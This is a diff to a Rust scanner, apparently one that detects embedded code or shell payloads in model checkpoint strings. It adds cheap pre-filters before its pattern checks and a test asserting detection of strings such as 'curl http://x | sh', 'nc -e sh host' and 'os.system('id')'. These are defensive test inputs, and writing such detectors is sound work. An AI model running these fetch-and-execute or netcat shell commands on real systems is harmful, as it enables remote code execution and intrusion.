@@ -139,7 +139,15 @@ pub fn find_code(text: &str) -> Option<String> {
         let snippet: String = text[start..].chars().take(100).collect();
         snippet.replace('\n', "\\n")
     };
-    for pat in CALLS {
+    // Cheap gates first: most strings in a checkpoint are short keys without any of these.
+    let calls = if text.contains('(') { CALLS } else { &[] };
+    let statements = if text.contains("import") { STATEMENTS } else { &[] };
+    let shell = if text.contains('/') || text.contains('|') || text.contains(" -") || text.contains("rm ") || text.contains("chmod") {
+        SHELL
+    } else {
+        &[]
+    };
+    for pat in calls {
         let mut from = 0;
         while let Some(i) = text[from..].find(pat) {
             let at = from + i;
@@ -150,7 +158,7 @@ pub fn find_code(text: &str) -> Option<String> {
             from = at + pat.len();
         }
     }
-    for pat in STATEMENTS {
+    for pat in statements {
         let mut from = 0;
         while let Some(i) = text[from..].find(pat) {
             let at = from + i;
@@ -162,7 +170,7 @@ pub fn find_code(text: &str) -> Option<String> {
             from = at + pat.len();
         }
     }
-    SHELL.iter().find_map(|pat| text.find(pat).map(context))
+    shell.iter().find_map(|pat| text.find(pat).map(context))
 }
 
 fn decode_hex(s: &str) -> Option<Vec<u8>> {
@@ -235,5 +243,15 @@ mod tests {
         assert!(inspect(b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00}\x94.", false, 0, &limits, 0).is_none());
         // Random base64 that decodes to junk is not a payload.
         assert!(inspect(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/==", true, 0, &limits, 0).is_none());
+    }
+}
+
+#[cfg(test)]
+mod gate_tests {
+    #[test]
+    fn cheap_gates_keep_every_pattern_reachable() {
+        for s in ["chmod +x payload", "curl http://x | sh", "x; import os", "os.system('id')", "nc -e sh host"] {
+            assert!(super::find_code(s).is_some(), "{s}");
+        }
     }
 }
